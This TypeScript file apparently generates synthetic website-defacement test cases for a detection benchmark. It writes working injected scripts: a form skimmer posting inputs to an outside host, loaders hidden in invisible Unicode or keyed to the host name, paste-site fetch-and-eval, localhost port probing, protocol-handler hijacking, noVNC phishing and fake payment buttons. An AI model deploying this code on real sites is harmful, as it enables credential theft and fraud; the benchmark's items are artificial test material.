/**
 * Fresh13 defacement classes: written after round 13 (the second group
 * written then, after fresh12), by someone who does not read the engines,
 * from public descriptions of real defacements, skimmers, loaders, phishing
 * kits and scams. New techniques: a loader whose code is spelled in
 * invisible Unicode characters (variation selectors, zero-width spaces), a
 * loader encrypted with a key derived from the site's own host name
 * (environmental keying, WebCrypto AES-GCM or XOR), a script making a file
 * planted on the site the browser's handler for mailto:, bitcoin: or tel:
 * links (registerProtocolHandler), a script probing visitors' localhost
 * and home-router ports, sign-in through a remote browser streamed from
 * another host (noVNC, "browser in the middle"), a "text to donate" line
 * whose sms: link goes to a premium number, look-alike Apple Pay and
 * Google Pay buttons, a loader fetching its code from a public paste or
 * gist, a root shell session typed out by a CSS animation, a hacker crew's
 * recruitment notice, an advert selling access to the hacked server and a
 * hacktivist ultimatum with a live countdown; and scam verticals not used
 * before (car-wrap advertising cheques, reshipping jobs, green-card lottery
 * fees, sugar-daddy allowances, carbon-credit and fine-wine investments,
 * Medicare genetic tests, flight-delay compensation, expiring reward
 * points, eSIM swaps, extended car warranties, police and embassy
 * impersonation in Chinese and Hindi, BLIK codes, Brazilian boletos, the
 * French CPF training account, advance-fee loans, Bitcoin ATM payments,
 * scholarship fees and unclaimed-property finders). Each differs from
 * every class in defacements.ts and fresh-defacements.ts through
 * fresh12-defacements.ts (not a re-wording of one) and varies its
 * templates, languages, domains, positions and sizes. The writer had no
 * internet access: every source below is recalled from memory, with its
 * outlet and an approximate date, and its comment says so. Scored in the
 * `fresh13` group, never tuned on.
 */
import { createCipheriv, createHash } from "node:crypto"
import { type ChangeClass, afterPrice, attrTargets, bottom, brandName, forms, head, resolve, scriptSpot, siteOr, top } from "./classes.js"
import { type Page, priceRe } from "./corpus.js"
import { links } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate } from "./locales.js"
import { type Rng, alnum, base58, bech32, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { brandLookalike, contactLine, greetz, libLookalike, nick, notifyLine, randomDomain, signature, slug, team } from "./words.js"

const fresh13 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh13", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script>${pick(rng, [() => code, () => code, () => `(function(){${code}})();`, () => `window.addEventListener("load",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip", "org", "cc"])
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.com", "gmx.com", "mail.com", "aol.com"])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const someSpot = (rng: Rng, page: Page) => pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)])
const dateOf = (rng: Rng, page: Page) => page.site.locale.date(someDate(rng))
const origin = (page: Page) => new URL(page.site.url).origin
const intlMobile = (rng: Rng) =>
  pick(rng, [
    () => `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+234 8${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+27 ${pick(rng, ["71", "72", "76", "82"])} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+91 9${digits(rng, 4)} ${digits(rng, 5)}`, () => `+233 ${pick(rng, ["24", "54", "55"])} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+63 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+60 1${digits(rng, 1)}-${digits(rng, 3)} ${digits(rng, 4)}`, () => `+971 5${digits(rng, 1)} ${digits(rng, 3)} ${digits(rng, 4)}`
  ])()
const waLink = (n: string) => `https://wa.me/${n.replace(/\D/g, "")}`
/** A US toll-free number as call centres print it. */
const tollFree = (rng: Rng) => `${pick(rng, ["1-", "", "+1 "])}${pick(rng, ["800", "833", "844", "855", "866", "877", "888"])}-${digits(rng, 3)}-${digits(rng, 4)}`
/** A host a scam runs on: a themed name on a cheap TLD, a random domain, or a look-alike of the site. */
const scamHost = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, words.filter((w) => w !== words[0]).concat(["online", "portal", "claim", "help"]))}.${tld(rng)}`, () => `${pick(rng, words)}${pick(rng, ["", digits(rng, 2), "-" + pick(rng, ["gov", "official", "secure", "center"])])}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
/** A box around a notice, in one of a few looks. */
const box = (rng: Rng, cls: ReadonlyArray<string>, accent: string, inner: string) =>
  `<div class="${pick(rng, cls)}" style="${pick(rng, [`border:2px solid ${accent};background:#fff;padding:14px 16px;margin:12px 0`, `border-left:6px solid ${accent};background:#f8f8f8;padding:12px 16px;margin:14px 0`, `border:1px solid ${accent};border-radius:8px;background:#fffdf5;padding:16px;margin:12px auto;max-width:680px`])};font-family:${pick(rng, ["Arial,sans-serif", "Helvetica,Arial,sans-serif", "Verdana,sans-serif", "Georgia,serif"])}">${inner}</div>`

/** Links of the page with their resolved URL. */
const resolvedLinks = (page: Page) =>
  attrTargets(page, links(page), "href").flatMap((t) => {
    const u = resolve(page, page.html.slice(t.value.start, t.value.end).replace(/&amp;/g, "&"))
    return u === null ? [] : [{ ...t, u }]
  })

/** Code an attacker's loader ends up running: a script from another host, a redirect, or a small form skimmer. */
const payload = (rng: Rng, page: Page): string => {
  const host = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  switch (int(rng, 3)) {
    case 0: return `var s=document.createElement("script");s.async=true;s.src=${js(`https://${host}/${pick(rng, ["js/core.min.js", "static/" + alnum(rng, 7) + ".js", "t.js?v=" + digits(rng, 5), "npm/bootstrap@5.3.3/dist/js/bootstrap.min.js"])}`)};(document.head||document.documentElement).appendChild(s);`
    case 1: {
      const c = `_${alnum(rng, 3)}`
      return `if(!/bot|crawl|spider|lighthouse/i.test(navigator.userAgent)&&localStorage.getItem(${js(c)})===null){localStorage.setItem(${js(c)},Date.now());setTimeout(function(){location.replace(${js(`https://${host}/${pick(rng, ["in", "r/" + alnum(rng, 5), "?k=" + alnum(rng, 8)])}`)})},${between(rng, 0, 3000)})}`
    }
    default: return `document.addEventListener("submit",function(e){var d={p:location.pathname};[].forEach.call(e.target.querySelectorAll("input,select"),function(i){if(i.name&&i.value)d[i.name]=i.value});fetch(${js(`https://${host}/${pick(rng, ["api/v2/track", "g.php", "log"])}`)},{method:"POST",mode:"no-cors",keepalive:true,body:btoa(unescape(encodeURIComponent(JSON.stringify(d))))})},true);`
  }
}

/** A byte as one invisible variation selector (VS1–VS16, then VS17–VS256). */
const selector = (b: number) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)
/** A byte as eight zero-width characters (ZWSP for 0, ZWNJ for 1). */
const zeroWidth = (b: number) => [...b.toString(2).padStart(8, "0")].map((x) => (x === "0" ? "\u200b" : "\u200c")).join("")

// Invisible-character loaders, recalled from memory, with uncertain details, of Certitude's post on "invisible" JavaScript backdoors written with the Hangul filler (November 2021), of Aikido Security's report (about May 2025) on an npm package hiding its payload in Unicode private-use characters, and of Koi Security's report on "GlassWorm" (October 2025), editor extensions whose code was encoded in invisible variation selectors that editors and reviews show as nothing: the page gains a script whose string literal looks empty or like a version number, but carries the code as variation selectors or zero-width characters, decoded and run.
const invisibleLoader = fresh13("loader whose code is spelled in invisible Unicode characters (variation selectors or zero-width spaces) inside an innocent-looking string", (page, rng) => {
  const bytes = [...Buffer.from(payload(rng, page), "utf8")]
  const cover = pick(rng, ["", "3.7.1", "v2", "ok", "en-US", "1.0.4", "main", "light"])
  const name = pick(rng, ["_v", "cfg", "ver", "__ld", "t", "theme"])
  const run = pick(rng, ["(0,eval)(s)", "new Function(s)()", `setTimeout(s,${between(rng, 0, 1500)})`])
  const code = chance(rng, 0.6)
    ? `var ${name}=${JSON.stringify(cover + bytes.map(selector).join(""))},o=[];for(var c of ${name}){var p=c.codePointAt(0);if(p>=65024&&p<=65039)o.push(p-65024);else if(p>=917760)o.push(p-917744)}var s=new TextDecoder().decode(new Uint8Array(o));${run};`
    : `var ${name}=${JSON.stringify(cover + bytes.map(zeroWidth).join(""))},b=${name}.replace(/[^\\u200b\\u200c]/g,"").replace(/\\u200b/g,"0").replace(/\\u200c/g,"1"),o=[];for(var i=0;i<b.length;i+=8)o.push(parseInt(b.substr(i,8),2));var s=new TextDecoder().decode(new Uint8Array(o));${run};`
  return splices(insert(scriptSpot(rng, page), `<script>${pick(rng, [code, `(function(){${code}})();`])}</script>`))
})

// Environmentally keyed loaders, recalled from memory of MITRE ATT&CK's technique T1480.001 "Environmental Keying" (payloads decrypted with a key derived from the target's environment, so they do nothing elsewhere and sandboxes see only noise), and, with uncertain details, of Malwarebytes' and Sucuri's notes (about 2020–2023) on skimmers whose code was XORed or encrypted with the victim shop's own domain name: the page gains a script holding an encrypted blob and decrypting it with a key made from location.hostname (AES-GCM through WebCrypto, or XOR).
const hostKeyedLoader = fresh13("loader encrypted with a key derived from the site's own host name (WebCrypto AES-GCM or XOR), so it runs only there", (page, rng) => {
  const code = payload(rng, page)
  const host = page.site.host.replace(/^www\./, "")
  const salt = chance(rng, 0.5) ? "" : alnum(rng, between(rng, 4, 10))
  const keyExpr = `location.hostname.replace(/^www\\./,"")${salt === "" ? "" : `+${js(salt)}`}`
  let script: string
  if (chance(rng, 0.6)) {
    const key = createHash("sha256").update(host + salt).digest()
    const iv = Buffer.from(hex(rng, 24), "hex")
    const c = createCipheriv("aes-256-gcm", key, iv)
    const ct = Buffer.concat([c.update(code, "utf8"), c.final(), c.getAuthTag()])
    const U = pick(rng, ["U", "_d", "b64", "q"])
    script = `(function(){var ${U}=function(s){return Uint8Array.from(atob(s),function(c){return c.charCodeAt(0)})};crypto.subtle.digest("SHA-256",new TextEncoder().encode(${keyExpr})).then(function(h){return crypto.subtle.importKey("raw",h,"AES-GCM",false,["decrypt"])}).then(function(k){return crypto.subtle.decrypt({name:"AES-GCM",iv:${U}("${iv.toString("base64")}")},k,${U}("${ct.toString("base64")}"))}).then(function(b){(0,eval)(new TextDecoder().decode(b))}).catch(function(){})})();`
  } else {
    const k = Buffer.from(host + salt, "utf8")
    const enc = Buffer.from(code, "utf8").map((b, i) => b ^ k[i % k.length]!)
    script = `(function(){var k=${keyExpr},d=atob("${Buffer.from(enc).toString("base64")}"),s="";for(var i=0;i<d.length;i++)s+=String.fromCharCode(d.charCodeAt(i)^k.charCodeAt(i%k.length));try{(0,eval)(decodeURIComponent(escape(s)))}catch(e){}})();`
  }
  return splices(insert(scriptSpot(rng, page), `<script${chance(rng, 0.3) ? ` data-cfasync="false"` : ""}>${script}</script>`))
})

const handlerWords: Record<Lang, string> = {
  en: "To write to us securely, click “Allow” when your browser asks to open e-mail links with our secure mail service.",
  fr: "Pour nous écrire en toute sécurité, cliquez sur « Autoriser » lorsque votre navigateur propose d'ouvrir les liens e-mail avec notre messagerie sécurisée.",
  de: "Um uns sicher zu schreiben, klicken Sie auf „Zulassen“, wenn Ihr Browser fragt, ob E-Mail-Links mit unserem sicheren Maildienst geöffnet werden sollen.",
  es: "Para escribirnos de forma segura, pulse «Permitir» cuando su navegador pregunte si desea abrir los enlaces de correo con nuestro servicio seguro.",
  nl: "Om ons veilig te mailen, klikt u op 'Toestaan' wanneer uw browser vraagt of e-maillinks met onze beveiligde maildienst mogen worden geopend.",
  pt: "Para nos escrever com segurança, clique em “Permitir” quando o navegador perguntar se deseja abrir links de e-mail com nosso serviço seguro.",
  it: "Per scriverci in modo sicuro, fai clic su «Consenti» quando il browser chiede di aprire i link e-mail con il nostro servizio di posta sicura."
}

// Protocol-handler hijacking, recalled from memory of the HTML Living Standard's registerProtocolHandler() (the safelisted schemes mailto, bitcoin, tel, sms, magnet and others, and its security notes on "hijacking all web usage of a protocol" and leaking the link's data), which lets a page (only for a handler URL on its own origin) ask to become the browser's handler for a scheme: an intruder uploads a forwarding file to the site and adds a script asking the browser to send every mailto:, bitcoin:, tel: or sms: link, on any site, to it; sometimes with a line urging visitors to allow it.
const protocolHandler = fresh13("script making a file planted on the site the browser's handler for mailto:, bitcoin: or tel: links (registerProtocolHandler)", (page, rng) => {
  const scheme = pick(rng, ["mailto", "mailto", "mailto", "bitcoin", "tel", "sms"])
  const y = someDate(rng)
  const dir = pick(rng, [`/wp-content/uploads/${y.getUTCFullYear()}/${String(y.getUTCMonth() + 1).padStart(2, "0")}/`, "/images/", "/media/cache/", "/tmp/", "/assets/vendor/", "/.well-known/"])
  const file = pick(rng, ["m.php", "compose.php", "mail.html", `${alnum(rng, 6)}.php`, "handler.php", "h.html"])
  const url = `${chance(rng, 0.6) ? origin(page) : ""}${dir}${file}?${pick(rng, ["u", "to", "q", "uri", "x"])}=%s`
  const title = pick(rng, [`${brandName(page)} Mail`, "Secure Mail", "Webmail", "Wallet", brandName(page)])
  const call = `navigator.registerProtocolHandler(${js(scheme)},${js(url)}${chance(rng, 0.4) ? `,${js(title)}` : ""})`
  const code = pick(rng, [
    `try{${call}}catch(e){}`,
    `document.addEventListener("click",function f(){document.removeEventListener("click",f);try{${call}}catch(e){}});`,
    `if("registerProtocolHandler" in navigator&&!localStorage.getItem("_ph")){localStorage.setItem("_ph",1);try{${call}}catch(e){}}`
  ])
  const out: Array<Splice> = [insert(scriptSpot(rng, page), wrapScript(rng, code))]
  if (scheme === "mailto" && chance(rng, 0.5)) out.push(insert(noticeSpot(rng, page), `<p class="${pick(rng, ["mail-notice", "notice", "info"])}" style="background:#eef6ff;border:1px solid #9cc3f5;padding:8px 12px">✉️ ${esc(siteOr(rng, page, handlerWords))}</p>`))
  return { splices: out }
})

// Local-network scanning from the browser, recalled from memory of SPI Dynamics' paper on JavaScript port scanning (2006) and later tools (JS-Recon, about 2010), of BleepingComputer's and Nem's reports (May 2020) that eBay's fraud script probed visitors' localhost ports for remote-desktop software, and of Oligo Security's "0.0.0.0 Day" (August 2024) on pages reaching services on visitors' own machines: the page gains a script timing requests (fetch no-cors, WebSocket or images) to localhost ports (VNC, RDP, TeamViewer, AnyDesk, Chrome's debugging port) and home-router addresses, and sending the results to another host.
const lanProbe = fresh13("script probing visitors' localhost ports and home-router addresses and reporting what answers", (page, rng) => {
  const targets = sample(rng, [
    "127.0.0.1:3389", "127.0.0.1:5900", "127.0.0.1:5938", "127.0.0.1:7070", "127.0.0.1:9222", "127.0.0.1:6463", "localhost:8080", "127.0.0.1:3000",
    "127.0.0.1:8888", "0.0.0.0:6379", "192.168.0.1", "192.168.1.1", "192.168.1.254", "10.0.0.1", "192.168.178.1", "192.168.8.1", "127.0.0.1:11211", "127.0.0.1:27017"
  ], between(rng, 5, 11))
  const sink = `https://${pick(rng, [randomDomain(rng), libLookalike(rng), `${pick(rng, ["stat", "net", "probe", "m"])}${digits(rng, 2)}.${tld(rng)}`])}/${pick(rng, ["r", "c", "api/p", "ping.php"])}`
  const list = JSON.stringify(targets)
  const send = `navigator.sendBeacon(${js(sink)},JSON.stringify({h:location.host,r:r}))`
  const code = pick(rng, [
    `var t=${list},r={};Promise.all(t.map(function(h){var s=performance.now();return fetch("http://"+h+"/",{mode:"no-cors",cache:"no-store"}).then(function(){r[h]=1},function(){r[h]=performance.now()-s<${between(rng, 20, 80)}?0:2})})).then(function(){${send}});`,
    `var t=${list},r={},n=t.length;t.forEach(function(h){var s=Date.now(),w;try{w=new WebSocket("ws://"+h+"/")}catch(e){if(--n===0)${send};return}var d=function(){r[h]=Date.now()-s;try{w.close()}catch(e){}if(--n===0)${send}};w.onopen=d;w.onerror=d});`,
    `var t=${list},r={},n=t.length;t.forEach(function(h){var i=new Image(),s=Date.now();i.onload=i.onerror=function(){r[h]=Date.now()-s;if(--n===0)${send}};i.src="http://"+h+"/favicon.ico?"+s});`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, pick(rng, [code, `setTimeout(function(){${code}},${between(rng, 500, 6000)});`]))))
})

const vncWords: Record<Lang, readonly [string, string]> = {
  en: ["Secure sign-in", "For your protection, sign in through our secure session below."],
  fr: ["Connexion sécurisée", "Pour votre protection, connectez-vous via la session sécurisée ci-dessous."],
  de: ["Sichere Anmeldung", "Zu Ihrem Schutz melden Sie sich bitte über die folgende sichere Sitzung an."],
  es: ["Acceso seguro", "Por su protección, inicie sesión a través de la sesión segura de abajo."],
  nl: ["Veilig inloggen", "Log voor uw veiligheid in via de beveiligde sessie hieronder."],
  pt: ["Acesso seguro", "Para sua proteção, entre pela sessão segura abaixo."],
  it: ["Accesso sicuro", "Per la tua protezione, accedi tramite la sessione sicura qui sotto."]
}

// Browser-in-the-middle phishing, recalled from memory of mr.d0x's post on stealing sessions with noVNC (about September 2022), of the EvilnoVNC tool published on GitHub soon after, and of reports (about 2023–2024) of kits that stream a real browser on the attacker's server, already open at the genuine sign-in page, so the victim's password and one-time code land in the attacker's session: the site's sign-in or account links (or a few of its links) now open a noVNC page on another host with autoconnect and a password in the URL, or a full-window frame of it covers the page, or a "secure sign-in" box links to it.
const novncSession = fresh13("sign-in opened in a remote browser streamed from another host (noVNC 'browser in the middle')", (page, rng) => {
  const host = pick(rng, [`${pick(rng, ["login", "secure", "auth", "sso", "account"])}-${slug(page.site.brand) || "portal"}.${tld(rng)}`, brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const vnc = `https://${host}${pick(rng, ["/vnc.html", "/vnc_lite.html", "/novnc/vnc.html", "/s/" + alnum(rng, 6) + "/vnc.html"])}?autoconnect=${pick(rng, ["true", "1"])}&password=${alnum(rng, 8)}&resize=${pick(rng, ["remote", "scale"])}${chance(rng, 0.5) ? "&view_only=false" : ""}${chance(rng, 0.4) ? "&path=websockify" : ""}${chance(rng, 0.3) ? "&show_dot=true" : ""}`
  const all = resolvedLinks(page)
  const keyed = all.filter(({ u }) => /log.?in|sign|account|member|\/my|portal|auth|konto|compte|cuenta|conta|accedi|anmelden|inloggen/i.test(u.pathname + u.search + u.hostname))
  const mode = keyed.length > 0 ? int(rng, 3) : 1 + int(rng, 2)
  if (mode === 0) return { splices: sample(rng, keyed, between(rng, 1, 3)).map((t) => replace(t.value, esc(vnc))) }
  if (mode === 1) return splices(insert(top(page), `<iframe src="${esc(vnc)}" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:${pick(rng, ["2147483647", "99999", "1000000"])};background:#fff" allow="clipboard-read; clipboard-write"></iframe>`))
  const [h, p] = siteOr(rng, page, vncWords)
  return splices(insert(noticeSpot(rng, page), box(rng, ["secure-login", "signin-box", "notice"], "#1a73e8", `<h3>🔒 ${esc(h)} · ${esc(brandName(page))}</h3><p>${esc(p)}</p><p><a href="${esc(vnc)}" style="display:inline-block;background:#1a73e8;color:#fff;padding:8px 18px;border-radius:4px;text-decoration:none">${esc(h)} →</a></p>`)))
})

const smsWords: Record<Lang, readonly [ReadonlyArray<string>, (kw: string, n: string, amt: string, what: string) => string, string]> = {
  en: [["earthquake", "flood", "wildfire", "hurricane", "famine"], (kw, n, amt, w) => `Text ${kw} to ${n} to give ${amt} to the ${w} emergency appeal. Every text saves lives.`, "Text to donate"],
  fr: [["séisme", "inondations", "incendies", "ouragan", "famine"], (kw, n, amt, w) => `Envoyez ${kw} au ${n} pour donner ${amt} à l'appel d'urgence (${w}). Chaque SMS sauve des vies.`, "Donner par SMS"],
  de: [["Erdbeben", "Hochwasser", "Waldbrände", "Wirbelsturm", "Hungersnot"], (kw, n, amt, w) => `Senden Sie ${kw} an ${n} und spenden Sie ${amt} für die Nothilfe (${w}). Jede SMS rettet Leben.`, "Per SMS spenden"],
  es: [["terremoto", "inundaciones", "incendios", "huracán", "hambruna"], (kw, n, amt, w) => `Envía ${kw} al ${n} y dona ${amt} al llamamiento de emergencia (${w}). Cada SMS salva vidas.`, "Dona por SMS"],
  nl: [["aardbeving", "overstromingen", "bosbranden", "orkaan", "hongersnood"], (kw, n, amt, w) => `Sms ${kw} naar ${n} en geef ${amt} aan de noodhulp (${w}). Elke sms redt levens.`, "Doneer per sms"],
  pt: [["terremoto", "enchentes", "incêndios", "furacão", "fome"], (kw, n, amt, w) => `Envie ${kw} para ${n} e doe ${amt} para o apelo de emergência (${w}). Cada SMS salva vidas.`, "Doe por SMS"],
  it: [["terremoto", "alluvione", "incendi", "uragano", "carestia"], (kw, n, amt, w) => `Invia ${kw} al ${n} e dona ${amt} all'appello d'emergenza (${w}). Ogni SMS salva vite.`, "Dona con un SMS"]
}

// Premium-rate text donations, recalled from memory of the UK Phone-paid Services Authority's adjudications and warnings (about 2015–2022) on premium SMS services that posed as charity appeals after disasters, of Ofcom's and the Fundraising Regulator's guidance on text giving, and of RFC 5724 (2010), which defines sms: links with a prefilled body: a disaster "text to donate" line whose sms: link sends a keyword to a premium short code or an international premium number the attacker rents, with small print naming a made-up service provider.
const smsPremium = fresh13("'text to donate' disaster appeal whose sms: link sends a keyword to a premium-rate number", (page, rng) => {
  const [whats, line, label] = siteOr(rng, page, smsWords)
  const kw = `${pick(rng, ["HELP", "GIVE", "AID", "SOS", "RELIEF", "DON", "HILFE", "AYUDA"])}${pick(rng, ["", "5", "10", "20"])}`
  const num = pick(rng, [() => `${pick(rng, ["6", "7", "8"])}${digits(rng, 4)}`, () => `+44 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+882 ${digits(rng, 4)} ${digits(rng, 4)}`, () => `+${pick(rng, ["239", "675", "677", "682"])} ${digits(rng, 6)}`])()
  const amt = pick(rng, ["£10", "€10", "$10", "£5", "€5", "$20", "€3"])
  const href = `sms:${num.replace(/\s/g, "")}${pick(rng, ["?body=", "?&amp;body=", ";?body="])}${encodeURIComponent(kw)}`
  const small = `${pick(rng, ["Texts cost", "SMS:", "Coût :", "Kosten:", "Coste:"])} ${amt} + ${pick(rng, ["std network rate", "1 SMS", "standard"])} · ${pick(rng, ["Service by", "Provider:", "Anbieter:", "Prestataire :"])} ${pick(rng, ["Mobile", "Relief", "Give", "Aid"])}${pick(rng, ["Pay", "Link", "Connect", "Net"])} ${pick(rng, ["Ltd", "S.L.", "GmbH", "SARL", "LLC"])} · ${pick(rng, ["Help", "Hotline", "Aide"])}: ${intlMobile(rng)}`
  const inner = `<h3>🆘 ${esc(label)}</h3><p>${esc(line(kw, num, amt, pick(rng, whats)))}</p><p><a href="${href}" style="display:inline-block;background:#c62828;color:#fff;padding:8px 16px;border-radius:4px;text-decoration:none">📱 ${esc(kw)} → ${esc(num)}</a></p><p style="font-size:10px;color:#777">${esc(small)}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["appeal", "donate-sms", "emergency-appeal"], "#c62828", inner)))
})

const expressWords: Record<Lang, readonly [string, string]> = {
  en: ["Express checkout", "Buy now with"], fr: ["Paiement express", "Acheter avec"], de: ["Express-Kasse", "Jetzt kaufen mit"],
  es: ["Pago exprés", "Comprar con"], nl: ["Snel afrekenen", "Nu kopen met"], pt: ["Checkout expresso", "Comprar com"], it: ["Pagamento rapido", "Acquista con"]
}

// Fake wallet buttons, recalled from memory, with uncertain details, of reports (about 2021–2024, from Malwarebytes, Sucuri and Jscrambler) on skimmers that add their own payment step or buttons to checkout pages, and of phishing pages styled as Apple Pay and Google Pay sheets that ask for the card and the Apple ID: black "Pay" and "G Pay" look-alike buttons appear beside the site's prices or in its forms, opening a card form on another host with the price and the shop in the URL.
const fakeWalletButtons = fresh13("look-alike Apple Pay and Google Pay buttons beside the prices opening a card form on another host", (page, rng) => {
  const [h, buy] = siteOr(rng, page, expressWords)
  const host = pick(rng, [`${pick(rng, ["applepay", "gpay", "wallet", "express"])}-${pick(rng, ["checkout", "secure", "pay", "confirm"])}.${tld(rng)}`, brandLookalike(rng, page.site.brand), libLookalike(rng)])
  const ref = alnum(rng, 10)
  const url = (w: string, price: string) => `https://${host}/${pick(rng, ["pay", "checkout", "v1/session"])}?w=${w}&amp;m=${encodeURIComponent(page.site.host)}&amp;a=${encodeURIComponent(price)}&amp;r=${ref}`
  const btn = (w: "apple" | "google", price: string) => {
    const label = w === "apple" ? " Pay" : "G Pay"
    const style = `display:inline-block;min-width:110px;text-align:center;background:#000;color:#fff;border-radius:${pick(rng, ["6px", "20px", "4px"])};padding:7px 14px;margin:4px;font:600 15px -apple-system,Roboto,Arial,sans-serif;text-decoration:none`
    return chance(rng, 0.6)
      ? `<a href="${url(w, price)}" class="${w}-pay-button" style="${style}" aria-label="${esc(buy)} ${w === "apple" ? "Apple Pay" : "Google Pay"}">${label}</a>`
      : `<button type="button" class="${w}-pay-button" style="${style};border:0" onclick="window.open('${url(w, price).replace(/&amp;/g, "&")}','pay','width=420,height=640')">${label}</button>`
  }
  const pair = (price: string) => sample(rng, [btn("apple", price), btn("google", price)], between(rng, 1, 2)).join("")
  const priced = page.spots.texts.filter((t) => priceRe.test(t.text) && page.spots.elements[t.parent]?.shown !== false)
  const out: Array<Splice> = []
  for (const t of sample(rng, priced, between(rng, 1, 3))) out.push(insert(afterPrice(page, t), ` <span class="express-pay">${pair(t.text.match(priceRe)![0])}</span>`))
  const fs = forms(page)
  if (out.length === 0 || chance(rng, 0.3)) {
    const at = fs.length > 0 && chance(rng, 0.5) ? fs[0]!.openEnd : slotAt(page.spots, pick(rng, ["top", "middle"] as const))
    out.push(insert(at, `<div class="express-checkout" style="margin:8px 0"><small>${esc(h)}</small><br>${pair(page.site.locale.money(between(rng, 19, 199) + 0.99))}</div>`))
  }
  return { splices: out }
})

const ghUsers = ["devops-tools", "jsdelivery", "cdn-assets", "wp-helpers", "analytics-lib", "fontloader", "jq-plugins", "m4k3r", "ops-bot", "assets-sync"]

// Paste-site dead drops, recalled from memory of Palo Alto Unit 42's and Trend Micro's reports (about 2019–2022) on malware staging its next stage on Pastebin and GitHub, of Sucuri's notes (about 2021–2023) on hacked sites whose injected scripts fetched code from raw.githubusercontent.com or paste hosts, and of the reason they use fetch() rather than a script tag (raw hosts send text/plain with nosniff): the page gains a short script fetching text from Pastebin, a GitHub gist or raw file, Rentry or paste.ee and running it.
const pasteDeadDrop = fresh13("loader fetching its code as text from a public paste or gist (Pastebin, GitHub raw, Rentry) and running it", (page, rng) => {
  const user = pick(rng, ghUsers) + pick(rng, ["", digits(rng, 2)])
  const file = pick(rng, ["jquery.min.js", "config.js", "init.txt", "loader.js", "readme.txt", "data.json"])
  const url = pick(rng, [
    () => `https://pastebin.com/raw/${alnum(rng, 8).replace(/[a-z]/g, (c) => (chance(rng, 0.5) ? c.toUpperCase() : c))}`,
    () => `https://gist.githubusercontent.com/${user}/${hex(rng, 32)}/raw/${chance(rng, 0.5) ? hex(rng, 40) + "/" : ""}${file}`,
    () => `https://raw.githubusercontent.com/${user}/${pick(rng, ["assets", "cdn", "static", "wp-fix", "lib"])}/${pick(rng, ["main", "master", "gh-pages"])}/${pick(rng, ["dist/", "js/", ""])}${file}`,
    () => `https://rentry.co/${alnum(rng, 6)}/raw`,
    () => `https://paste.ee/r/${alnum(rng, 5)}`,
    () => `https://bitbucket.org/${user}/${pick(rng, ["web", "static"])}/raw/${hex(rng, 12)}/${file}`
  ])()
  const decode = pick(rng, ["t", "atob(t.trim())", "t.split('').reverse().join('')"])
  const run = pick(rng, [`(0,eval)(${decode})`, `new Function(${decode})()`])
  const code = pick(rng, [
    `fetch(${js(url)}).then(function(r){return r.text()}).then(function(t){${run}}).catch(function(){});`,
    `var x=new XMLHttpRequest();x.open("GET",${js(url)},true);x.onload=function(){var t=x.responseText;${run}};x.send();`,
    `(async function(){try{var t=await (await fetch(${js(url)},{cache:"no-store"})).text();${run}}catch(e){}})();`
  ])
  return splices(insert(scriptSpot(rng, page), `<script>${code}</script>`))
})

const recruitWords: ReadonlyArray<readonly [string, ReadonlyArray<string>, string]> = [
  ["OPEN RECRUITMENT", ["Min. 5 mirrors on Zone-H / Zone-XSEC", "Can do SQLi, LFI/RFI, shell upload, bypass admin", "Active on Telegram, no lamer no skid", "Loyal to the team", "Send your proof of deface to the admin"], "Join us"],
  ["OPEN REKRUTMEN MEMBER BARU", ["Minimal 5 deface (mirror Zone-H)", "Bisa SQLi, LFI, upload shell, bypass admin", "Aktif di grup Telegram", "Bukan lamer, bukan cepu", "Kirim bukti deface ke admin"], "Gabung sekarang"],
  ["YENİ ÜYE ALIMI BAŞLADI", ["En az 5 Zone-H kaydı", "SQLi, LFI/RFI, shell yükleme bilen", "Telegram'da aktif olan", "Takıma sadık", "Deface kanıtını yöneticiye gönder"], "Bize katıl"],
  ["فتح باب الانضمام للفريق", ["5 اختراقات على الأقل في Zone-H", "إتقان SQLi و رفع الشل", "التواجد على تيليجرام", "الولاء للفريق"], "انضم إلينا"],
  ["রিক্রুটমেন্ট চলছে", ["কমপক্ষে ৫টি ডিফেস (Zone-H মিরর)", "SQLi, শেল আপলোড জানতে হবে", "টেলিগ্রামে সক্রিয়"], "যোগ দিন"]
]

